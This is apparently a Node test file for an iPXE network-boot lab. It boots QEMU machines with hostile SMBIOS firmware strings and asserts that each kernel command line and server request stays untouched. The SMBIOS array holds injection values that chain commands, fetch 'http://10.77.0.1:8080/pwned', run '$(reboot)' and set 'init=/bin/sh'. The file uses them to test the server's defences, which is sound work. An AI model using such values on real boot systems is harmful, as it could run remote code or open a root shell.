import assert from 'node:assert/strict'
import { copyFileSync, mkdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { makeTap } from '../../src/lab/namespace.ts'
import { missingPackages } from '../../src/lab/packages.ts'
import { buildPayload } from '../../src/lab/payload.ts'
import { prepareVariables } from '../../src/lab/qemu.ts'
import { type Machine, machineFiles, qemuArguments } from '../../src/lab/qemu-arguments.ts'
import { BOOT_PATIENCE_MS, type BootRoom, makeBootRoom } from '../helpers/boot-room.ts'
import { inNetns } from '../helpers/netns.ts'
import { endAll, Running } from '../helpers/server.ts'
import { mac } from '../helpers/world.ts'

/**
 * Machines whose firmware says of itself (SMBIOS) what would be commands, settings or kernel arguments if anybody took it for
 * such: a real iPXE on BIOS and on UEFI reads it, and Linux is in service with its own command line.
 */
const absent = missingPackages('lab')
const skip = process.getuid?.() !== 0 ? 'needs root' : absent.length > 0 && `missing: ${absent.join(' ')}`
if (skip === false) await buildPayload()

const ACCESS_LOG = '/run/access.jsonl'
/** QEMU wants a comma doubled. */
const SMBIOS = [
  `type=1,manufacturer=x && imgfetch http://10.77.0.1:8080/pwned ; $(reboot),product=\${serial} \${\${asset}}`,
  `type=1,serial=x\nimgfetch http://10.77.0.1:8080/pwned\n\${asset},family=' " \\ # :failed --timeout 1`,
  `type=3,asset=|| imgfetch http://10.77.0.1:8080/pwned init=/bin/sh \${serial}`,
]
const MACHINES = [
  { name: 'rom', mac: '52:54:00:77:0a:01', firmware: 'bios', profile: 'control-plane' },
  { name: 'uefi', mac: '52:54:00:77:0a:02', firmware: 'uefi', profile: 'all-in-one' },
] as const
const ASKED =
  /^\/boot\.ipxe$|^\/boot\/52-54-00-77-0a-0[12]\.ipxe\?(?:[a-z]+=(?:[0-9a-f-]*|x86_64|i386|efi|pcbios)&?)+$|^\/images\/payload\/[0-9a-f]{64}\/(?:vmlinuz|initrd\.img)$|^\/v1\/report\/52-54-00-77-0a-0[12]$|^snponly\.efi$/

inNetns(import.meta, (net) => {
  describe('S-05: firmware with hostile texts', { skip }, () => {
    let room: BootRoom
    let server: Running

    before(async () => {
      room = await makeBootRoom((text) => text.replace('server: {', `server: { accessLog: ${ACCESS_LOG},`))
      copyFileSync('/usr/lib/ipxe/snponly.efi', join(room.firmware, 'snponly.efi'))
      server = await room.serve()
    })
    after(endAll)

    for (const { name, mac: address, firmware, profile } of MACHINES)
      test(`${name}: boots its own kernel with its own arguments`, {
        timeout: 2 * BOOT_PATIENCE_MS,
      }, async () => {
        const machine: Machine = {
          ...{ name, firmware, nic: 'virtio', mac: mac(address), tap: `tap-${name}`, memoryMib: 512 },
          ...{
            acceleration: 'tcg',
            folder: `/run/${name}`,
            uuid: `00000000-0000-4000-8000-${address.replaceAll(':', '')}`,
          },
        }
        mkdirSync(machine.folder)
        await makeTap({ name: machine.tap, bridge: 'prov0' })
        prepareVariables(machine)
        const hostile = SMBIOS.flatMap((value) => ['-smbios', value])
        const running = new Running(net.spawn('qemu-system-x86_64', [...qemuArguments(machine), ...hostile]))
        const report = { mac: address, stage: 'in-service', standing: 'verified' }
        const { detail } = await server.event('report', report, 0, BOOT_PATIENCE_MS).catch((error: Error) => {
          error.message += `\nits console:\n${readFileSync(machineFiles(machine).serialLog, 'latin1').slice(-4000)}`
          throw error
        })
        await running.stop('SIGKILL')
        assert.match(String(detail['cmdline']), cmdlineOf(profile, name, address))
      })

    test('nothing else was asked for, and the texts were told as octets', () => {
      const lines = readFileSync(ACCESS_LOG, 'utf8').trim().split('\n')
      const paths = lines.map((line) => String(JSON.parse(line).path))
      for (const path of paths) assert.match(path, ASKED)
      const hex = Buffer.from('imgfetch http').toString('hex')
      assert.equal(paths.filter((path) => path.includes(hex)).length, MACHINES.length)
    })
  })
})

/** All of it: nothing before, between or behind. iPXE on UEFI begins it with the name of the kernel. */
function cmdlineOf(profile: string, name: string, address: string): RegExp {
  const dashed = address.replaceAll(':', '-')
  const own = `centra\\.profile=${profile} test\\.node=${name} BOOTIF=01-${dashed} centra\\.report=\\S+/v1/report/${dashed}`
  return new RegExp(
    `^(?:vmlinuz )?initrd=initrd\\.img console=tty0 quiet nokaslr mitigations=off tsc=reliable audit=0 random\\.trust_cpu=on console=ttyS0,115200 ${own} centra\\.nonce=[0-9a-f]{8}\\.\\.\\.$`,
  )
}
